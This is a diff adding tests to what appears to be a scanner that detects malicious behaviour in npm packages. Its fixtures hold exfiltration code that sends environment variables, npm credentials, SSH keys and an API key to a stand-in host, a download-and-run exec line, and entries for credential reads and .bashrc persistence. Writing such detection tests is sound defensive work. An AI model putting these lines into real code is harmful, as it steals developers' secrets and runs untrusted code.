@@ -2,9 +2,9 @@ import { describe, expect, test } from 'vitest';
 import { check, read } from '../src/check.ts';
 import { environmentReads, hostsIn } from '../src/code/environment.ts';
 import { loadRules } from '../src/load-rules.ts';
-import { defineRule, type Rule } from '../src/rule.ts';
+import { type CaseObservation, defineRule, type Rule } from '../src/rule.ts';
 import { cpuOf } from './support/cpu.ts';
-import { packageOf } from './world.ts';
+import { packageOf, subjectsOf } from './world.ts';
 
 const rules = await loadRules();
 
@@ -57,6 +57,114 @@ describe('check', () => {
     const { value } = checkCode('a();'.repeat(500), [flood]);
     expect(value).toHaveLength(20);
     expect(value[0]?.message).toBe('large');
+  });
+});
+
+describe('what reaches one call in several ways is told once, with where each begins', () => {
+  const READ = (path: string) => `require('fs').readFileSync(process.env.HOME + '${path}', 'utf8')`;
+
+  test.each([
+    [
+      'secrets-sent',
+      "fetch('https://c.example/?' + JSON.stringify(process.env), { method: 'POST', body: JSON.stringify(process.env) })",
+      [
+        'collects the whole environment while it is loaded',
+        'sends the whole environment over the network while it is loaded',
+      ],
+      2,
+    ],
+    [
+      'secrets-sent',
+      `const a = ${READ('/.npmrc')};\nconst b = ${READ('/.npmrc')};\nfetch('https://c.example/' + a, { method: 'POST', body: b })`,
+      ['collects npm credentials while it is loaded', 'sends npm credentials over the network while it is loaded'],
+      2,
+    ],
+    [
+      'secrets-sent',
+      `const a = ${READ('/.npmrc')};\nconst b = ${READ('/.ssh/id_rsa')};\nfetch('https://c.example/' + a, { method: 'POST', body: b })`,
+      [
+        'collects SSH keys while it is loaded',
+        'collects npm credentials while it is loaded',
+        'sends SSH keys over the network while it is loaded',
+        'sends npm credentials over the network while it is loaded',
+      ],
+      1,
+    ],
+    [
+      'identity-sent',
+      "const os = require('os');\nfetch('https://c.example/' + os.hostname(), { body: os.hostname() })",
+      ['sends the result of os.hostname over the network while it is loaded'],
+      2,
+    ],
+    [
+      'key-to-stranger',
+      "fetch('https://c.example/?' + process.env.OPENAI_API_KEY, { body: process.env.OPENAI_API_KEY })",
+      [
+        'sends OPENAI_API_KEY, a key of OpenAI, to c.example while it is loaded',
+        'sends OPENAI_API_KEY, a key of OpenAI, to c.example while it is loaded',
+      ],
+      2,
+    ],
+    [
+      'dynamic-code',
+      "new Function(atob('Y29uc29sZS5sb2coMSk='), atob('Y29uc29sZS5sb2coMik='))()",
+      ['runs a packed text as code while it is loaded'],
+      2,
+    ],
+    [
+      'downloads-and-runs',
+      "require('child_process').exec((await fetch('https://c.example/1')).text() + ' ' + (await fetch('https://c.example/2')).text())",
+      ['runs a command that came over the network while it is loaded'],
+      2,
+    ],
+  ])('%s, %#', (rule, code, messages, beginnings) => {
+    const only = rules.filter(({ id }) => id === rule);
+    const { value } = checkCode(code, only);
+    expect(value.map(({ message }) => message).sort()).toEqual(messages);
+    for (const { evidence } of value) {
+      const notes = evidence.map(({ note }) => note);
+      expect(notes.filter((note) => note === notes.at(-1))).toHaveLength(beginnings);
+    }
+  });
+});
+
+describe('what scripts of several packages do at install is told of each', () => {
+  const runs = ['laptop', 'ci'].map(
+    (profile) => ({ profile, phase: 'install', status: 'completed', detail: '', ms: 1 }) as const,
+  );
+  const sent = { kind: 'decoy', place: 'env NOTION_TOKEN', encoding: [], asked: true, in: 0 } as const;
+  const post = { kind: 'http', method: 'POST', url: 'https://c.example/', host: 'c.example', headers: {} } as const;
+  const rows: Readonly<Record<string, CaseObservation>> = {
+    'decoy-copied': { ...sent, channel: 'file', asked: false, where: '/tmp/x' },
+    'decoy-sent': { ...sent, channel: 'network', asked: false, where: 'POST https://c.example/' },
+    'fetched-at-install': { ...post, method: 'GET', body: { bytes: 0, sha256: '', text: '' } },
+    'gated-behavior': { ...post, run: 'ci', body: { bytes: 9, sha256: '', text: 'x' } },
+    'hidden-lookup': { kind: 'dns', name: 'c.example', type: 'TXT', via: 'https' },
+    'host-unexplained': { kind: 'recipient', what: 'host', value: 'c.example', field: '', explained: 'nothing', in: 0 },
+    'persistence-written': { kind: 'write', pid: 7, path: '/home/dev/.bashrc', ok: true },
+    'sandbox-tampered': { kind: 'tamper', how: 'stray-process', what: '7 sh' },
+    'second-tls-stack': {
+      kind: 'tls',
+      host: 'c.example',
+      port: 443,
+      outcome: 'accepted',
+      ja4: 't13d1312h2_f57a46bbacb6_e7c285222651',
+    },
+    'secrets-read': { kind: 'read', pid: 7, path: '/home/dev/.aws/credentials', ok: true },
+    'sent-unasked': { ...post, body: { bytes: 9, sha256: '', text: 'x' } },
+  };
+
+  test.each(Object.entries(rows))('%s', (rule, one) => {
+    const connect = { kind: 'connect', pid: 7, address: '203.0.113.9', port: 443, host: 'c.example' } as const;
+    const node = { kind: 'exec', pid: 7, path: '/usr/local/bin/node', argv: ['node', 'x.js'], ok: true } as const;
+    const began = rule === 'second-tls-stack' ? [node, connect] : [];
+    const observations = ['helper@1.0.0', 'tool@1.0.0'].flatMap((id) =>
+      [...began, one].map((each) => ({ ...each, phase: 'install', package: id }) as CaseObservation),
+    );
+    const only = rules.filter(({ id }) => id === rule);
+    const found = subjectsOf({ name: '', runs, observations }).flatMap((subject) => check(only, subject).value);
+    expect(found.map((each) => each.package)).toEqual(['helper@1.0.0', 'tool@1.0.0']);
+    expect(found.every(({ evidence }) => evidence.length === 1)).toBe(true);
   });
 });
 
